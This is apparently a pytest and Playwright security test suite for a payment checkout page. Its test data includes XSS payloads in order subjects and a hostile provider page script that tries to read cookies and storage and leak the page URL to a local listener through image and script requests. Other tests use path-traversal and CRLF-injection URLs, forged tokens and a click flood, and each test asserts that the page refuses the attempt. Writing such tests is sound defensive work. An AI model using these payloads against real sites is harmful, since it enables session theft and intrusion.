"""Hostile input, and the page's defence against it."""

import socket
import time
from collections.abc import Callable, Mapping

import pytest
from playwright.sync_api import Route, expect

from support import tokens
from support.screens import DESKTOP, PHONE, WAIT_MS, Device, Screen, new_address
from support.service import HTML
from support.shop import Fault, Reply, Shop, send, trades_made

MARKUP = [
    "<script>document.title='taken'</script>",
    '"><img src=x onerror="document.title=\'taken\'">',
    "'><svg/onload=document.title='taken'>",
    "</title><script>document.title='taken'</script>",
    "{{{subject}}} {{#a}} {{> b}}",
    "&lt;b&gt; &amp;amp;",
]
OVERRIDE = "\u202egnp.eciovni\u202c"
HEBREW = "\u05d7\u05e9\u05d1\u05d5\u05df 123 (A)"


@pytest.mark.parametrize("subject", MARKUP)
def test_a_subject_with_markup_is_text(shop: Shop, desktop: Screen, subject: str) -> None:
    payment = shop.pay(subject=subject)

    desktop.open(payment.checkout_url)

    desktop.see("ready")
    assert subject in desktop.text()
    assert desktop.page.title() != "taken"
    assert desktop.page.locator("main img, main svg[onload], main b").count() == 0


def test_a_subject_with_a_direction_override_is_refused(shop: Shop) -> None:
    assert shop.try_to_pay(subject=f"Invoice {OVERRIDE}").status == 400


def test_a_right_to_left_subject_does_not_reverse_other_text(shop: Shop, desktop: Screen) -> None:
    payment = shop.pay(subject=HEBREW)
    desktop.open(payment.checkout_url)
    desktop.see("ready")

    # The nearest element around it isolates its direction.
    isolated = desktop.page.evaluate("""() => {
        const texts = document.createTreeWalker(document.querySelector('main'), NodeFilter.SHOW_TEXT);
        while (texts.nextNode()) {
            const text = texts.currentNode;
            if (text.data.includes('123 (A)')) return getComputedStyle(text.parentElement).unicodeBidi;
        }
    }""")

    assert isolated in ("isolate", "isolate-override", "plaintext")


class TestAProvidersPageThatReachesOut:
    """A provider's HTML page: its script runs in a separate origin, without access to our data."""

    @pytest.fixture
    def settings(self) -> Mapping[str, str]:
        return HTML

    HOSTILE = """<!DOCTYPE html><title>provider</title><form id="steal" method="post" action="http://127.0.0.1:9/steal">
        <input name="card" value="1"></form><script>
        const tried = {};
        const attempt = async (name, reach) => {
            try { tried[name] = String(await reach()); } catch (refusal) { tried[name] = 'refused'; }
        };
        (async () => {
            await attempt('origin', () => self.origin);
            await attempt('cookie', () => document.cookie);
            await attempt('localStorage', () => localStorage.length);
            await attempt('sessionStorage', () => sessionStorage.length);
            await attempt('indexedDB', () => { indexedDB.open('x'); return 'opened'; });
            await attempt('serviceWorker', () => navigator.serviceWorker.register('/checkout.js'));
            await attempt('opener', () => opener ? opener.document.title : 'none');
            await attempt('parent', () => parent === self ? 'none' : parent.document.title);
            await attempt('api', async () => (await fetch('PAYMENT', {credentials: 'include'})).status);
            await attempt('repay', async () => (await fetch('REPAY', {method: 'POST', body: '{}',
                headers: {'Content-Type': 'application/json'}})).status);
            // The link itself is nobody else's to hear of.
            await attempt('picture', () => new Promise((sent, held) => {
                const picture = new Image();
                [picture.onload, picture.onerror] = [sent, held];
                picture.src = 'LISTENER/?' + encodeURIComponent(location.href);
            }));
            await attempt('script', () => new Promise((sent, held) => {
                const script = document.createElement('script');
                [script.onload, script.onerror] = [sent, held];
                script.src = 'LISTENER/tracker.js';
                document.head.append(script);
            }));
            window.tried = tried;
            document.title = 'tried';
        })();
        </script>"""

    @pytest.mark.parametrize("device", [DESKTOP, PHONE], ids=lambda device: device.name)
    def test_a_provider_page_has_no_access_to_our_data(
        self, shop: Shop, show: Callable[[Device], Screen], device: Device
    ) -> None:
        with socket.create_server(("127.0.0.1", 0)) as listener:
            listener.setblocking(False)
            self._let_it_try(shop, show(device), f"http://127.0.0.1:{listener.getsockname()[1]}")
            with pytest.raises(BlockingIOError):  # No connection was made.
                listener.accept()

    def _let_it_try(self, shop: Shop, screen: Screen, listener: str) -> None:
        # The browser counts a request that the policy blocks.
        screen.watch.allow_origin(listener)
        screen.watch.expect("CORS|Content Security Policy|policy violation|sandbox|ERR_FAILED|Failed to load|failed:")
        payment = shop.pay()
        path = payment.checkout_url.removeprefix(shop.origin)
        document = self.HOSTILE.replace("PAYMENT", f"{path}/payment").replace("REPAY", f"{path}/repay")
        document = document.replace("LISTENER", listener)

        def take_the_providers_place(route: Route) -> None:
            """The body is the provider's; the headers are ours, unchanged."""
            route.fulfill(response=route.fetch(), body=document)

        screen.context.route("**/page*", take_the_providers_place)
        screen.open(payment.checkout_url)
        screen.see("ready")

        opened = _open(screen)
        expect(opened.page).to_have_title("tried", timeout=WAIT_MS)
        tried = opened.page.evaluate("window.tried")

        assert tried.pop("origin") == "null"
        assert tried.pop("opener") in ("none", "refused")
        assert tried.pop("parent") == "none"
        assert set(tried.values()) == {"refused"}, tried
        assert trades_made(shop.trades(payment.number)) == [("1", 1)]

        # Its form can be sent only to its provider.
        opened.page.evaluate("document.getElementById('steal').submit()")
        opened.page.wait_for_timeout(300)
        assert screen.watch.elsewhere() == []

    def test_a_provider_page_cannot_be_framed(self, shop: Shop, desktop: Screen) -> None:
        desktop.watch.expect("frame-ancestors|Refused to (frame|display)|ERR_BLOCKED_BY|policy violation|Framing")
        payment = shop.pay()
        desktop.page.goto(f"{shop.origin}/healthz")

        for address in (payment.checkout_url, f"{payment.checkout_url}/page"):
            framed = desktop.page.evaluate(
                """async address => {
                const frame = document.createElement('iframe');
                frame.src = address;
                const loaded = new Promise(done => frame.onload = done);
                document.body.append(frame);
                await loaded;
                try { return frame.contentDocument ? frame.contentDocument.body.innerText : 'closed off'; }
                catch (refusal) { return 'closed off'; }
            }""",
                address,
            )
            assert framed == "closed off"
            frame = desktop.page.frames[-1]
            assert frame.locator("main#checkout, form").count() == 0


def _open(screen: Screen) -> Screen:
    """Follows the link to the provider's page, in a new tab or the same tab."""
    link = screen.page.locator("a[data-open]")
    if link.get_attribute("target") == "_blank":
        with screen.context.expect_page() as opened:
            link.click()
        return Screen(opened.value, screen.watch)
    with screen.page.expect_navigation():
        link.click()
    return screen


def test_one_orders_token_opens_no_other_order(shop: Shop) -> None:
    mine, other = shop.pay(), shop.pay(subject="A secret surprise")

    for path in ("payment", "page", "events", "repay", ""):
        method = "POST" if path == "repay" else "GET"
        forged = other.token.rsplit(".", 1)[0] + "." + mine.token.rsplit(".", 1)[1]
        answer = send(
            method, f"{shop.origin}/checkout/{forged}/{path}".rstrip("/"), body=b"" if path == "repay" else None
        )
        assert answer.status == 404, path
        assert b"A secret surprise" not in answer.body

    opened = send("GET", f"{shop.origin}/v1/payments/{other.number}", headers={"Authorization": f"Bearer {mine.token}"})
    assert opened.status in (401, 404)


def test_an_expired_token_opens_nothing(shop: Shop) -> None:
    payment = shop.pay(subject="A secret surprise")
    over = tokens.make(payment.number, expires_at_ms=int(time.time() * 1_000) - 1)

    for method, path in (("GET", "payment"), ("GET", "page"), ("GET", "events"), ("POST", "repay")):
        answer = send(method, f"{shop.origin}/checkout/{over}/{path}", body=b"" if method == "POST" else None)
        assert answer.status in (404, 410), path
        assert b"A secret surprise" not in answer.body
    pressed = send(
        "POST",
        f"{shop.origin}/checkout/{over}",
        headers={"Content-Type": "application/x-www-form-urlencoded"},
        body=b"channel=sandbox2&terminal=pc",
    )
    assert pressed.status == 410
    assert trades_made(shop.trades(payment.number)) == [("1", 1)]


@pytest.mark.parametrize(
    "path",
    [
        "/checkout/{token}%2Fpayment",
        "/checkout/{token}%2F..%2F..%2Fmetrics",
        "/checkout/%2e%2e%2fmetrics",
        "/checkout/{token}/..%2fpayment",
        "/checkout/{token}%00",
        "/checkout/{token}%0d%0aX-Taken:%20yes",
        "/checkout/%ff%fe",
        "/checkout/" + "a" * 8_000,
    ],
)
def test_a_manipulated_path_finds_nothing(shop: Shop, path: str) -> None:
    payment = shop.pay(subject="A secret surprise")

    answer = send("GET", shop.origin + path.replace("{token}", payment.token))

    assert answer.status in (400, 404, 414)
    assert answer.header("X-Taken") is None
    assert b"A secret surprise" not in answer.body
    assert payment.token.rsplit(".", 1)[1].encode() not in answer.body


def test_a_flood_of_clicks_is_rate_limited_without_affecting_others(shop: Shop, desktop: Screen) -> None:
    payment, bystander = shop.pay(), shop.pay()
    headers = {"X-Forwarded-For": new_address(), "Content-Type": "application/json"}
    wish = b'{"channel": "sandbox2"}'
    # Each call would reach the provider, whose answers are unreadable.
    shop.plan(Fault("create", "garbage", channel="sandbox2", times=999))

    answers: list[Reply] = []
    while len(answers) < 100 and (not answers or answers[-1].status != 429):
        answers.append(send("POST", f"{payment.checkout_url}/repay", headers=headers, body=wish))

    held_off = answers[-1]
    assert held_off.status == 429, f"{len(answers)} calls in a row are no flood?"
    assert int(held_off.header("Retry-After") or 0) >= 1
    # Another order at the same address, and another address, still work.
    shop.plan()
    assert send("POST", f"{bystander.checkout_url}/repay", headers=headers, body=wish).status == 200
    desktop.open(payment.checkout_url)
    desktop.see("unknown", "working", "ready", "choose")


def test_a_rate_limited_buyer_gets_a_notice_and_the_page_still_works(shop: Shop, desktop: Screen) -> None:
    payment = shop.pay()
    desktop.open(payment.checkout_url)
    desktop.see("ready")

    # A press during another press is ignored, so many may be needed.
    for _ in range(60):
        if desktop.page.locator('[data-notice="toooften"]').count():
            break
        desktop.page.evaluate("document.querySelector('details#dead')?.querySelector('button')?.click()")
        desktop.page.wait_for_timeout(300)

    desktop.has_notice("toooften")
    assert desktop.code_of('[data-qr="page"]') == payment.content
    desktop.channel("sandbox2").click()
    desktop.page.wait_for_selector('main[data-state="ready"][data-channel="sandbox2"]')
    assert desktop.page.locator("[data-notice]").count() == 0
